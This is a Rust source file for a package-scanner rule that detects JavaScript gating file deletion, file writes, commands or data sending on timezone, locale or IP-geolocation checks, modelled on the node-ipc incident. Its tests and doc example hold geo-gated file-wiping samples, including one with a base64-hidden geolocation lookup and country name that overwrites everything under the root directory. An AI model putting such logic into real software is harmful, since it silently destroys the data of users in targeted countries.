//! ## What it does
//! Fires when behaviour is gated on where the machine is: a comparison of the timezone
//! (`Intl.DateTimeFormat().resolvedOptions().timeZone`, `getTimezoneOffset()`), the locale
//! (`process.env.LANG`, `navigator.language`) or an IP-geolocation API's answer with a
//! location literal (`'ru-RU'`, `'Europe/Moscow'`, `'russia'`), guarding file writes or
//! deletes, commands, or data being sent — inside the guarded branch, or after an early
//! return on the condition. Critical when the gated code deletes or overwrites files.
//!
//! ## Why is this bad?
//! Software that acts differently for users of one country is a weapon aimed at them (or
//! hides from analysts elsewhere).
//!
//! ## Example
//! ```js
//! const r = await fetch('https://api.ipgeolocation.example/ipgeo');  // or ipinfo/ip-api
//! if ((await r.json()).country_name === 'russia') wipe(homedir);     // geo-targeted
//! ```
//! Benign look-alikes: i18n code picking a translation for `'ru-RU'`; installers choosing a
//! download mirror by timezone (the branch picks a URL, it writes nothing).
//!
//! ## Motivated by
//! node-ipc 10.1.1–10.1.3 (March 2022): overwrote files with ❤️ on machines geolocated in
//! Russia or Belarus.

use crate::alert::{AlertId, AlertSeverity};
use crate::js::context::{Ctx, Emitter};
use crate::js::facts::FsKind;
use crate::js::taint::Taint;

pub fn check(ctx: &Ctx<'_>, out: &mut Emitter<'_>) {
    // Deletes, and writes repeated over listed files: what a geo-gated payload does.
    let wipes = |op: &crate::js::facts::FsOp| {
        matches!(op.kind, FsKind::Delete { .. }) || op.kind == FsKind::Write && op.in_loop
    };
    for gate in &ctx.facts.geo_gates {
        if !ctx.taint(&gate.test).has(Taint::GEO) {
            continue;
        }
        let (start, end) = gate.region;
        if end <= start {
            // The comparison is kept in a flag (`const hit = country === 'x'; if (hit) …`):
            // only a file that also wipes or overwrites files counts.
            if let Some(op) = ctx.facts.fs.iter().find(|op| wipes(op)) {
                let _ = op;
                out.report(
                    AlertId::GeoTargeted,
                    AlertSeverity::Critical,
                    gate.span,
                    "checks the machine's location and deletes or overwrites files",
                    Vec::new(),
                );
            }
            continue;
        }
        let inside = |s: oxc_span::Span| s.start >= start && s.end <= end;
        let deletes = ctx.facts.fs.iter().any(|op| {
            inside(op.span)
                && (matches!(op.kind, FsKind::Delete { .. })
                    || op.kind == FsKind::Write && op.in_loop)
        });
        let writes = ctx
            .facts
            .fs
            .iter()
            .any(|op| inside(op.span) && op.kind == FsKind::Write);
        let runs = ctx.facts.execs.iter().any(|e| inside(e.span));
        let sends = ctx
            .sends()
            .iter()
            .any(|s| inside(s.span) && s.payload.identity_kinds() > 0);
        if deletes || writes || runs || sends {
            let severity = if deletes {
                AlertSeverity::Critical
            } else {
                AlertSeverity::High
            };
            let what = if deletes {
                "deletes or overwrites files"
            } else if writes {
                "writes files"
            } else if runs {
                "runs commands"
            } else {
                "sends host data"
            };
            out.report(
                AlertId::GeoTargeted,
                severity,
                gate.span,
                format!("{what} only for machines matching a location check"),
                Vec::new(),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::alert::{AlertId, AlertSeverity};
    use crate::rules::test_support::{fires, silent};

    #[test]
    fn location_gated_writes_fire() {
        fires(
            "const fs = require('fs');\nconst tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nif (tz === 'Europe/Moscow') {\n  for (const f of files) fs.writeFileSync(f, '❤️');\n}",
            false,
            AlertId::GeoTargeted,
            AlertSeverity::Critical,
        );
        fires(
            "const fs = require('fs');\nasync function go() {\n  const r = await fetch('https://ipinfo.io/json');\n  const j = await r.json();\n  if (j.country !== 'RU') return;\n  fs.writeFileSync(target, 'x');\n}",
            false,
            AlertId::GeoTargeted,
            AlertSeverity::High,
        );
    }

    #[test]
    fn hidden_country_names_and_flag_variables_count() {
        fires(
            "const fs = require('fs'), https = require('https'), path = require('path');\nhttps.get(Buffer.from('aHR0cHM6Ly9pcGluZm8uaW8vanNvbg==', 'base64').toString(), res => res.on('data', d => {\n  const c = JSON.parse(d.toString()).country.toLowerCase();\n  const hit = c.includes(Buffer.from('cnVzc2lh', 'base64').toString());\n  if (hit) wipe('/');\n}));\nfunction wipe(dir) { for (const f of fs.readdirSync(dir)) fs.writeFile(path.join(dir, f), '\\u2764', () => {}); }",
            false,
            AlertId::GeoTargeted,
            AlertSeverity::Critical,
        );
    }

    #[test]
    fn locale_choices_without_side_effects_do_not() {
        silent(
            "const lang = process.env.LANG; const msg = lang === 'ru-RU' ? 'Привет' : 'Hello'; console.log(msg);",
            false,
            AlertId::GeoTargeted,
        );
        silent(
            "const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\nlet mirror = 'https://a.example';\nif (tz === 'Asia/Shanghai') { mirror = 'https://b.example'; }\nrequire('fs').writeFileSync('bin', download(mirror));",
            true,
            AlertId::GeoTargeted,
        );
    }
}
